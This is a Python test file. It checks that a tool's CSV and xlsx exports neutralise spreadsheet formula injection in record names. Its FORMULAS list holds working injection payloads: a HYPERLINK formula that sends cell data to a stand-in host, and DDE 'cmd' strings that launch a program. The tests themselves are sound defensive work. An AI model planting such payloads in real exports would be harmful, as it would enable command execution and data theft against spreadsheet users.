"""CSV formula injection: names a spreadsheet would run leave every tabular export as text.

Records named ``=HYPERLINK(…)``, ``+cmd|…``, ``-2+3``, ``@SUM(…)`` are exported in every
registered tabular format (csv, xlsx) through ``corridor export``; no cell may start with a
formula character, and the xlsx must hold no formula cell at all.
"""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
from followthemoney import model
from openpyxl import load_workbook

from corridor.access import Node
from corridor.cli import run
from corridor.cli._cmd_export import EXPORTERS
from corridor.cli._registry import register_commands
from corridor.model import entity_statements, parse_marking

FORMULAS = [
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
]
STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def exported(node: Node, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, Path]:
    """Every tabular export of a node holding formula-named records."""
    register_commands()
    statements = []
    for number, formula in enumerate(FORMULAS):
        proxy = model.make_entity("Person")
        proxy.id = f"gb-nca.F{number}"
        proxy.add("name", formula)
        proxy.add("alias", formula)
        statements += entity_statements(proxy, source="f", origin="GB-NCA", marking=parse_marking("B2 P"))
    with node.store.transaction() as conn:
        node.store.write_statements(conn, statements)
    monkeypatch.setenv("CORRIDOR_DB", node.settings.database_url)
    monkeypatch.setenv("CORRIDOR_KEY_DIR", str(node.keys_path))
    formats = [f for f in ("csv", "xlsx") if f in EXPORTERS]
    assert formats, f"no tabular export registered (formats: {sorted(EXPORTERS)})"
    out: dict[str, Path] = {}
    for name in formats:
        path = tmp_path / f"out.{name}"
        assert run(["--as", "GB-NCA/analyst", "export", "--format", name, "--out", str(path)]) == 0
        out[name] = path
    return out


def _csv_cells(path: Path) -> list[str]:
    files = sorted(p for p in path.rglob("*.csv")) if path.is_dir() else [path]
    if path.is_file() and zipfile.is_zipfile(path):
        with zipfile.ZipFile(path) as archive:
            texts = [archive.read(n).decode("utf-8-sig") for n in archive.namelist() if n.endswith(".csv")]
    else:
        texts = [f.read_text(encoding="utf-8-sig") for f in files]
    return [cell for text in texts for row in csv.reader(io.StringIO(text)) for cell in row]


def test_csv_cells_never_start_a_formula(exported: dict[str, Path]) -> None:
    if "csv" not in exported:
        pytest.skip("csv export not registered")
    cells = _csv_cells(exported["csv"])
    assert any("HYPERLINK" in c for c in cells)  # the names were exported
    assert [c for c in cells if c.startswith(STARTS) and not _number(c)] == []


def test_xlsx_holds_no_formula(exported: dict[str, Path]) -> None:
    if "xlsx" not in exported:
        pytest.skip("xlsx export not registered")
    book = load_workbook(exported["xlsx"], data_only=False)
    seen = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    seen.append(cell.value)
                    assert not cell.value.startswith(STARTS) or _number(cell.value), cell.value
    assert any("HYPERLINK" in v for v in seen)


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
